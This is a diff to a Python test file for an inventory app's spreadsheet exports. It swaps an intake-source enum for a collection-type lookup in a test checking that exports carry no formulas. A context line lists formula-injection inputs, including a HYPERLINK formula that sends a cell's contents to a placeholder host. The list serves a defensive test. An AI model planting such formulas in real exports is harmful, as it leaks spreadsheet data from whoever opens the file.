@@ -10,8 +10,9 @@ from openpyxl import load_workbook
 
 from app.exports import csv_writer, neutralise
 from app.users.roles import Role
-from inventory.models import IntakeSource, ItemCategory
+from inventory.models import ItemCategory
 from inventory.ressourcerie.items import IntakeData, record_intake
+from tests.inventory.ressourcerie.conftest import collection_type
 
 EVIL = ['=HYPERLINK("http://x/?"&A1,"clic")', "+33 6 12", "-2+3", "@SUM(A1)", "\tcalc", "\r=1"]
 
@@ -55,7 +56,9 @@ def test_product_tonnage_and_report_exports_carry_no_formula(
         staff.id,
         now,
         date(2026, 11, 23),
-        IntakeData(category.id, IntakeSource.DONATION, date(2026, 11, 23), 5000),
+        IntakeData(
+            category.id, collection_type(session, "Apport volontaire"), date(2026, 11, 23), 5000
+        ),
     )
     login("karim")
 
